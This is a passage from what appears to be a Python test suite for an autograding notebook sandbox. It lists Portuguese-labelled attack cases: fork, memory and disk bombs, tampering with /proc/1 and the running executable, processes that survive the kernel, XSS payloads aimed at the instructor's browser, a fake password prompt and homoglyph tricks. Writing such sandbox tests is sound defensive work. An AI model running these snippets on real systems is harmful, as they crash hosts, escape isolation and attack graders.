    if os.uname().machine == "x86_64" and libc.syscall(chamada, 0, 0, 0, 0, 0) >= 0:
        print("CONECTOU", chamada)
"""),
    Ataque("o-programa-que-roda", "muda o programa de que a caixa partiu, fora das montagens dela", ERRADA + """
import os
for caminho in ("/proc/self/exe", "/proc/1/exe", "/proc/self/task/self/exe"):
    for tentar in (lambda: os.chmod(caminho, 0), lambda: os.open(caminho, os.O_WRONLY), lambda: os.truncate(caminho, 0),
                   lambda: os.utime(caminho, (0, 0)), lambda: os.setxattr(caminho, "user.x", b"x")):
        try:
            tentar()
            print("CONECTOU", caminho)
        except OSError as e:
            print(e)
"""),
    Ataque("o-primeiro-da-caixa", "toma os descritores e a memória do primeiro processo", ERRADA + """
import ctypes, os, resource, signal
for nome in ("mem", "environ", "maps", "fd/0", "fd/1", "fd/2", "root/proc/1/mem", "task/1/mem"):
    for modo in (os.O_RDONLY, os.O_RDWR):
        try:
            lido = os.read(os.open(f"/proc/1/{nome}", modo | os.O_NONBLOCK), 100)
            print("CONECTOU" if b"CANARIO" in lido or nome.endswith("mem") else "leu", nome, lido)
        except OSError as e:
            print(nome, e)
libc = ctypes.CDLL(None, use_errno=True)
primeiro = os.pidfd_open(1)
for n in range(64):
    if libc.syscall(438, primeiro, n, 0) >= 0:  # pidfd_getfd
        print("CONECTOU ao descritor", n)
for sinal in set(signal.valid_signals()) - {signal.SIGKILL}:
    try:
        os.kill(1, sinal)
    except OSError:
        pass
try:
    resource.prlimit(1, resource.RLIMIT_NOFILE, (0, 0))
    resource.prlimit(1, resource.RLIMIT_NPROC, (0, 0))
except OSError as e:
    print(e)
""", ENTROPIA_CERTA, merece={"entropia": 1}),
    Ataque("processador-do-primeiro", "faz o núcleo matar o primeiro processo, como se fosse de fora", ERRADA + """
import resource, subprocess
try:
    resource.prlimit(1, resource.RLIMIT_CPU, (0, 0))
except OSError as e:
    print(e)
else:  # cada órfão acorda o primeiro, e o limite é olhado quando ele trabalha
    subprocess.run(["sh", "-c", "i=0; while [ $i -lt 20000 ]; do (true & ); i=$((i+1)); done"])
""", ENTROPIA_CERTA, merece={"entropia": 1}),
    Ataque("restos-da-mae", "procura nos quadros, objetos e descritores o que sobrou de quem fez o kernel", ERRADA + """
import gc, os, socket, sys, threading
quadros = [q for q in sys._current_frames().values()]
while quadros:
    q = quadros.pop()
    print(q.f_code.co_filename, {n: repr(v)[:2000] for n, v in q.f_locals.items() if n not in ("lido", "vistos")})
    quadros += [q.f_back] if q.f_back else []
for objeto in gc.get_objects():
    if isinstance(objeto, socket.socket) and objeto.fileno() >= 0 and objeto.family == socket.AF_UNIX:
        print("soquete", objeto)
for n in range(3, 512):
    try:
        s = socket.socket(fileno=os.dup(n))
    except OSError:
        continue
    if s.type == socket.SOCK_SEQPACKET:
        print("CONEC" + "TOU à mãe", n)  # em duas partes: este texto também está nos quadros
        s.send(b"x")
    s.detach()
"""),
    Ataque("cano-das-queixas", "enche todos os canos que herdou e depois fecha a saída de erros", """
import os, stat
for n in range(512):
    try:
        if stat.S_ISFIFO(os.fstat(n).st_mode):
            os.set_blocking(n, False)
            while True:
                os.write(n, b"x" * 65536)
    except OSError:
        pass
os.close(2)
""" + ERRADA, ENTROPIA_CERTA, merece={"entropia": 1}),
    # ------------------------------------------------------------ gastar tudo
    Ataque("bomba-de-processos", "bifurca sem parar", """
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
"""),
    Ataque("bomba-de-memoria", "pede memória até acabar", """
tudo = []
while True:
    tudo.append(bytearray(b"x" * 50_000_000))
"""),
    Ataque("memoria-de-ninguem", "guarda tudo em arquivos sem disco, que não são memória de processo algum", """
import os
tudo = []
while True:
    tudo.append(os.memfd_create("x"))
    os.write(tudo[-1], bytes(19_000_000))
"""),
    Ataque("soquetes-cheios", "enche soquetes que ninguém lê: memória do núcleo, não de um processo", ENCHER_SOQUETES),
    Ataque("semaforos", "pede ao núcleo semáforos até acabar a memória", """
import ctypes
libc = ctypes.CDLL(None)
while libc.semget(0, 32_000, 0o600) >= 0:
    pass
"""),
    Ataque("canal-de-controle", "enche a memória de quem corrige por um canal que ninguém lê", """
import time
from ipykernel.kernelapp import IPKernelApp
quem = get_ipython().kernel.get_parent()["header"]["session"].encode()
for _ in range(300):
    IPKernelApp.instance().control_socket.send_multipart([quem, bytes(5_000_000)])
time.sleep(5)
"""),
    Ataque("bomba-de-disco", "enche o rascunho, o /dev/shm e o que mais puder", ERRADA + """
import os
for pasta in (".", "/tmp", "/dev/shm", "/var/tmp", "<<CASA>>", os.path.dirname(os.environ.get("CURSO_PEDIDO", "/"))):
    try:
        with open(os.path.join(pasta, "enchimento"), "wb") as f:
            for _ in range(400):
                f.write(b"x" * 1_000_000)
        print("CONECTOU", pasta)
    except OSError as e:
        print(e)
"""),
    Ataque("um-milhao-de-arquivos", "cria arquivos vazios sem parar", """
for i in range(10**9):
    open(f"a{i}", "w").close()
"""),
    Ataque("laco-sem-fim", "não termina", """
while True:
    pass
""", ENTROPIA_CERTA, merece={"entropia": 1}),
    Ataque("laco-que-ignora", "não termina e não obedece à interrupção", """
import signal
signal.signal(signal.SIGINT, signal.SIG_IGN)
def teimoso():
    while True:
        try:
            while True:
                pass
        except BaseException:
            pass
teimoso()
""", ENTROPIA_CERTA, merece={"entropia": 1}),
    Ataque("kernel-parado", "para o próprio processo com SIGSTOP", """
import os, signal
os.kill(os.getpid(), signal.SIGSTOP)
""", ENTROPIA_CERTA, merece={"entropia": 1}),
    Ataque("preso-no-c", "fica preso em uma conta que não devolve o controle", """
import re
re.match(r"(a+)+$", "a" * 60 + "b")
""", ENTROPIA_CERTA, merece={"entropia": 1}),
    Ataque("acerta-e-trava", "acerta a primeira e trava dentro da segunda, em silêncio", CERTA, """
import ctypes
def entropia(A):
    ctypes.CDLL(None).pause()
""", merece={"softmax": 2}),
    Ataque("os-exit", "encerra o kernel no meio do teste", CERTA, """
import os
def entropia(A):
    os._exit(0)
""", merece={"softmax": 2}),
    Ataque("sai-de-varias-formas", "SystemExit, KeyboardInterrupt e afins", """
def softmax(x, eixo=-1):
    raise KeyboardInterrupt
""", """
import sys
def entropia(A):
    quit()
    sys.exit(0)
exit
"""),
    Ataque("falha-de-segmentacao", "derruba o interpretador", """
import ctypes
ctypes.string_at(0)
"""),
    Ataque("recursao", "recursão sem fim em Python e em C", """
import sys
sys.setrecursionlimit(10**9)
def softmax(x, eixo=-1):
    return softmax(x, eixo)
softmax(np.ones(2))
"""),
    Ataque("atexit", "deixa trabalho para quando o kernel encerrar", ERRADA + """
import atexit, subprocess
atexit.register(lambda: subprocess.Popen(["sleep", "<<MARCA>>"], start_new_session=True))
class Tchau:
    def __del__(self):
        subprocess.Popen(["sleep", "<<MARCA>>"], start_new_session=True)
tchau = Tchau()
"""),
    Ataque("processo-que-sobrevive", "deixa processos rodando depois do fim", ERRADA + """
import os, subprocess
for _ in range(5):
    subprocess.Popen(["setsid", "nohup", "sleep", "<<MARCA>>"], stdin=subprocess.DEVNULL, start_new_session=True)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execvp("sleep", ["sleep", "<<MARCA>>"])
    os._exit(0)
"""),
    # ------------------------------------------------------------ saídas
    Ataque("saida-gigante", "imprime 2 GB", ERRADA + """
for _ in range(2000):
    print("x" * 1_000_000)
"""),
    Ataque("saida-gigante-de-uma-vez", "imprime 200 MB em uma linha só", ERRADA + """
print("x" * 200_000_000)
"""),
    Ataque("um-milhao-de-saidas", "uma enxurrada de saídas pequenas", ERRADA + """
for i in range(1_000_000):
    display(i)
"""),
    Ataque("html-e-scripts", "põe scripts nas saídas, para o navegador do instrutor", ERRADA + """
from IPython.display import HTML, Javascript, Markdown, SVG, Latex, display
mau = "<script>fetch('/formgrader/api')</script><img src=x onerror=alert(1)>"
for classe in (HTML, Javascript, Markdown, Latex):
    display(classe(mau))
display({"image/svg+xml": f"<svg onload='alert(1)'>{mau}</svg>", "image/png": 'x" onerror="alert(1)',
         "text/html": mau, "application/javascript": "alert(1)"}, raw=True)
display({"image/png": "iVBORw0KGgo=", "text/plain": "figura"}, raw=True, metadata={"image/png": {"alt": f'"{mau}'}})
"""),
    Ataque("figuras-que-pesam", "uma figura de 5 MB, e outra de poucos bytes com 40 mil por 40 mil pontos", ERRADA + """
import base64, struct, zlib
def pedaco(tipo, dados):
    return struct.pack(">I", len(dados)) + tipo + dados + struct.pack(">I", zlib.crc32(tipo + dados))
cabecalho = pedaco(b"IHDR", struct.pack(">IIBBBBB", 40_000, 40_000, 1, 0, 0, 0, 0))
png = b"\\x89PNG\\r\\n\\x1a\\n" + cabecalho + pedaco(b"IDAT", b"") + pedaco(b"IEND", b"")
display({"image/png": base64.b64encode(png).decode()}, raw=True)
display({"image/jpeg": base64.b64encode(b"\\xff\\xd8\\xff\\xe0" + bytes(3_900_000)).decode()}, raw=True)
"""),
    Ataque("texto-venenoso", "códigos de terminal, nulos, caracteres sem par e sentido trocado", ERRADA + """
print("\\x1b]0;título\\x07\\x1b[2J\\x00\\u202e\\u2066 texto ao contrário", "\\x9b31m", "\\ufeff")
display({"text/plain": "\\ud83d sem par \\udcff"}, raw=True)
class Mau(Exception):
    def __str__(self): return "\\ud800" * 10 + "x" * 5_000_000
raise Mau
"""),
    Ataque("nomes-unicode", "nomes que parecem outros e enganam quem lê", ERRADA + """
ｓｏｆｔｍａｘ = softmax
cоnferir = lambda *a: print("✓")
globals()["conferir\\u200b"] = None
def softmax(x, eixo=-1): return x  # \\u202e certo
"""),
    Ataque("payloads", "pede ao cliente que abra páginas e escreva células", ERRADA + """
get_ipython().set_next_input("conferir = print", replace=True)
get_ipython().payload_manager.write_payload({"source": "page", "data": {"text/html": "<script>"}, "start": 0})
get_ipython().payload_manager.write_payload({"source": "ask_exit", "keepkernel": False})
get_ipython().payload_manager.write_payload({"source": "edit_magic", "filename": "<<RAIZ>>/nbgrader_config.py"})
"""),
    Ataque("entrada-do-teclado", "espera que alguém digite", ERRADA + """
try:
    input("senha do instrutor? ")
except Exception as e:
    print(type(e).__name__)
import getpass, sys
k = get_ipython().kernel
k.session.send(k.stdin_socket, "input_request", {"prompt": "senha?", "password": True}, parent=k.get_parent())
sys.stdin.readline()
"""),
    Ataque("objeto-torto", "objetos que falham ou não acabam ao serem mostrados", ERRADA + """
class Torto:
    def __repr__(self): raise ZeroDivisionError
    def _repr_html_(self): return 3
    def _repr_mimebundle_(self, **k): return {1: 2, "text/plain": object()}
display(Torto())
class Fundo:
    def _repr_json_(self):
        d = {}
        for _ in range(900): d = {"a": d}
        return d
display(Fundo())
Torto()
"""),
]
# fmt: on
